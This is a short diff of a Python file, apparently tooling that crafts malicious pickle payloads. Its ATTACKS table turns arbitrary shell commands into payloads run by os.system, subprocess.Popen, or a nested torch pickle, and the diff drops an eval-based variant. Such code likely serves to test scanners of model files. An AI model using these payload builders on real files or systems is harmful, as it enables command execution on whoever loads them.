@@ -72,7 +72,6 @@ SYSTEM = f'{os.system.__module__}.system'
 ATTACKS = {
     SYSTEM: lambda command: {'x': Calls(os.system, command)},
     'subprocess.Popen': lambda command: {'x': Calls(subprocess.Popen, ['sh', '-c', command])},
-    'builtins.eval': lambda command: Calls(eval, f'__import__("os").system({command!r})'),
     # a second pickle inside the first, opened by torch itself
     'torch.storage._load_from_bytes': lambda command: Calls(
         torch.storage._load_from_bytes, saved(io.BytesIO(), Calls(os.system, command)).getvalue()
